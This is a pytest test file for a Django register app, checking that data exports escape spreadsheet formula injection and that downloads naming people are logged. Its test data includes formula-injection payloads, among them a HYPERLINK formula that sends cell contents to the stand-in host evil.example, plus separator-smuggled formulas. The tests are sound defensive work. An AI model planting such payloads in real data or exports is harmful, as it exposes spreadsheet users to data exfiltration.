"""Every download of the register's data: spreadsheet cells can never run as formulas, and every
download that names people is written to the export log (who, when, whose data).

Each export is fetched through the web with a formula-like name in its data. The last test
walks the URL configuration, so a new export cannot be added without being added here.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from people.models import Course, ExportLog
from projects.models import Membership
from tests.factories import ClinicalAreaFactory, PersonFactory, ProjectFactory

# What an attacker would type as their name: a link that runs when the cell is opened.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
MENTOR_FORMULA = "+SUM(1,1)"
YEAR = {
    "from": (timezone.localdate() - dt.timedelta(days=365)).isoformat(),
    "to": timezone.localdate().isoformat(),
}


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = csv.reader(io.StringIO(body(response).decode("utf-8")))
    return [cell for row in rows for cell in row]


def xlsx_cells(response) -> list:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = load_workbook(io.BytesIO(body(response)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    # openpyxl reads a stored formula back as data type "f": there must be none, and every
    # text is a string cell ("s"), which Excel never evaluates.
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    return [cell.value for cell in cells]


def assert_inert(cells, *formulas):
    for formula in formulas:
        assert "'" + formula in cells
        assert formula not in cells


def assert_text_as_typed(cells, *texts):
    """In an Excel file, text is a string cell holding exactly what was typed."""
    for text in texts:
        assert text in cells
        assert "'" + text not in cells


def assert_logged(user, kind, *subjects):
    log = ExportLog.objects.get(kind=kind)
    assert log.user == user
    assert set(log.subjects.all()) >= set(subjects)
    assert timezone.now() - log.exported_at < dt.timedelta(minutes=1)


@pytest.fixture
def named_like_a_formula(staff, champion, project):
    """`staff` (lead of `project`) named like a formula, `champion` its mentor, likewise."""
    staff.display_name = FORMULA
    staff.save()
    champion.display_name = MENTOR_FORMULA
    champion.save()
    project.mentor = champion
    project.save()
    return staff


@pytest.mark.parametrize(
    ("url", "kind"),
    [("projects:export_csv", "register_csv"), ("projects:export_xlsx", "register_xlsx")],
)
def test_register_exports_are_inert_and_logged(
    client_for, named_like_a_formula, manager, url, kind
):
    response = client_for(manager).get(reverse(url))
    if kind.endswith("csv"):
        assert_inert(csv_cells(response), FORMULA)
    else:
        assert_text_as_typed(xlsx_cells(response), FORMULA)
    assert_logged(manager.user, kind, named_like_a_formula)


@pytest.mark.parametrize(
    ("url", "kind"),
    [("governance:export_csv", "governance_csv"), ("governance:export_xlsx", "governance_xlsx")],
)
def test_governance_exports_are_inert_and_logged(
    client_for, named_like_a_formula, champion, url, kind
):
    response = client_for(champion).get(reverse(url))
    if kind.endswith("csv"):
        assert_inert(csv_cells(response), FORMULA, MENTOR_FORMULA)
    else:
        assert_text_as_typed(xlsx_cells(response), FORMULA, MENTOR_FORMULA)
    assert_logged(champion.user, kind, named_like_a_formula, champion)


def test_register_export_logs_only_the_people_it_names(client_for, staff, manager, outsider):
    ProjectFactory(lead=outsider, draft=True)  # a draft nobody else sees
    client_for(manager).get(reverse("projects:export_csv"), {"q": "nothing matches this"})
    log = ExportLog.objects.get()
    assert "q=nothing" in log.description
    assert list(log.subjects.all()) == []


def test_engagement_csv_is_inert_and_logged(client_for, named_like_a_formula, admin):
    Course.objects.create(name="QI induction", level="induction", is_induction=True)
    response = client_for(admin).get(reverse("people:engagement"), {**YEAR, "format": "csv"})
    assert_inert(csv_cells(response), FORMULA)
    assert_logged(admin.user, "engagement_csv", named_like_a_formula)


@pytest.mark.parametrize("fmt", ["csv", "pdf"])
def test_appraisal_summary_is_inert_and_logged(client_for, named_like_a_formula, manager, fmt):
    response = client_for(manager).get(reverse(f"recognition:appraisal_summary_{fmt}"), YEAR)
    if fmt == "csv":
        assert_inert(csv_cells(response), FORMULA)
    else:
        assert response["Content-Type"] == "application/pdf"
    assert_logged(manager.user, f"appraisal_summary_{fmt}", named_like_a_formula)


def test_portfolio_csv_is_inert_and_logged(client_for, staff, champion):
    project = ProjectFactory(lead=champion, title="-1+1 reduction in missed doses")
    Membership.objects.create(project=project, person=staff, role_title="@data collector")
    response = client_for(staff).get(reverse("recognition:portfolio_csv"), YEAR)
    cells = csv_cells(response)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'@data collector" in cells
    assert_logged(staff.user, "portfolio_csv", staff)


def test_portfolio_pdf_and_certificate_are_logged(client_for, staff, project):
    client = client_for(staff)
    assert client.get(reverse("recognition:portfolio_pdf"), YEAR).status_code == 200
    assert_logged(staff.user, "portfolio_pdf", staff)
    response = client.get(reverse("recognition:certificate", args=[project.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert_logged(staff.user, "certificate", staff)


def test_project_summary_pdf_is_logged_with_the_people_it_names(
    client_for, named_like_a_formula, champion, manager, project, outsider
):
    Membership.objects.create(project=project, person=manager, role_title="Data collector")
    response = client_for(outsider).get(
        reverse("recognition:project_summary_pdf", args=[project.pk])
    )
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    log = ExportLog.objects.get(kind="project_summary_pdf")
    assert log.user == outsider.user
    assert set(log.subjects.all()) == {named_like_a_formula, champion, manager}


def test_impact_csv_is_inert_and_names_nobody(client_for, staff, pharmacy, project):
    ClinicalAreaFactory(department=pharmacy, name="@SUM(A1:A9)")
    response = client_for(staff).get(reverse("measurement:impact_export"), YEAR)
    assert_inert(csv_cells(response), "@SUM(A1:A9)")
    # Figures for the department, areas and priorities only: no person's data, so no log.
    assert not ExportLog.objects.exists()


def test_every_formula_prefix_is_neutralised_in_a_name(client_for, manager, pharmacy):
    names = ["=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd"]
    for name in names:
        ProjectFactory(lead=PersonFactory(department=pharmacy, display_name=name))
    cells = csv_cells(client_for(manager).get(reverse("projects:export_csv")))
    for name in names:
        assert "'" + name in cells


# Cells an attacker can type that only become formulas where the spreadsheet splits the line
# at another separator: Excel in a ";" locale reads "x;=1+1" as "x" and "=1+1".
AFTER_SEPARATOR = {
    'Falls audit;=HYPERLINK("http://evil.example","Open")': (
        'Falls audit;\'=HYPERLINK("http://evil.example","Open")'
    ),
    "Ward 4,+SUM(1,1)": "Ward 4,'+SUM(1,1)",
    "Night shift; @SUM(A1:A9)": "Night shift; '@SUM(A1:A9)",
    "Doses\t-2+3": "Doses\t'-2+3",
    "Line one\n=1+1": "Line one\n'=1+1",
}
HARMLESS = ["Reduce falls by 20%, then sustain", "Pharmacy; wards 3-5", "Night-time doses"]


def test_a_formula_after_a_separator_is_neutralised_in_csv(client_for, manager, pharmacy):
    for title in [*AFTER_SEPARATOR, *HARMLESS]:
        ProjectFactory(lead=PersonFactory(department=pharmacy), title=title)
    cells = csv_cells(client_for(manager).get(reverse("projects:export_csv")))
    for typed, written in AFTER_SEPARATOR.items():
        assert written in cells
        assert typed not in cells
    assert set(HARMLESS) <= set(cells)


def test_a_csv_read_with_semicolons_has_no_cell_starting_like_a_formula(
    client_for, manager, pharmacy
):
    """The file as Excel opens it in a ";" locale, where quotes no longer line up."""
    for title in AFTER_SEPARATOR:
        ProjectFactory(lead=PersonFactory(department=pharmacy), title=title)
    text = body(client_for(manager).get(reverse("projects:export_csv"))).decode("utf-8")
    for separator in (";", "\t", ","):
        for line in text.splitlines():
            for cell in line.split(separator):
                assert not cell.lstrip(' "').startswith(("=", "+", "@")), (separator, cell)


def test_xlsx_holds_formula_like_text_as_typed_without_an_apostrophe(client_for, manager, pharmacy):
    titles = [*AFTER_SEPARATOR, "=1+1", "+44 20 7946 0000", "-", "@home visits", *HARMLESS]
    for title in titles:
        ProjectFactory(lead=PersonFactory(department=pharmacy), title=title)
    assert_text_as_typed(
        xlsx_cells(client_for(manager).get(reverse("projects:export_xlsx"))), *titles
    )


# Every export URL is one of these. The engagement CSV is /engagement/?format=csv. Not
# exports of personal data, deliberately: the showcase calendar feed (the department's
# schedule, polled by Outlook every few hours) and a measure's spc.json (figures only).
COVERED = {
    "projects:export_csv",
    "projects:export_xlsx",
    "governance:export_csv",
    "governance:export_xlsx",
    "recognition:appraisal_summary_csv",
    "recognition:appraisal_summary_pdf",
    "recognition:portfolio_csv",
    "recognition:portfolio_pdf",
    "recognition:certificate",
    "recognition:project_summary_pdf",
    "measurement:impact_export",
}
NOT_PERSONAL = {"recognition:showcase_calendar", "measurement:measure_spc_json"}
DOWNLOAD_SUFFIXES = (".csv", ".xlsx", ".pdf", ".ics", ".json", ".zip")


def _named_routes(resolver: URLResolver, namespace: str = "", prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _named_routes(pattern, inner, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", prefix + str(pattern.pattern)


def test_every_download_url_is_covered_here():
    downloads = {
        name
        for name, route in _named_routes(get_resolver())
        if not name.startswith("admin:")
        and (route.rstrip("$").endswith(DOWNLOAD_SUFFIXES) or "export" in route)
    }
    assert downloads == COVERED | NOT_PERSONAL
